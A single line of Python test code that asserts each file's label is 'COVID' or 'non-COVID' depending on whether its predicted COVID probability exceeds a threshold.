        assert decided[row["file"]] == ("COVID" if row["prob_covid"] > at else "non-COVID")
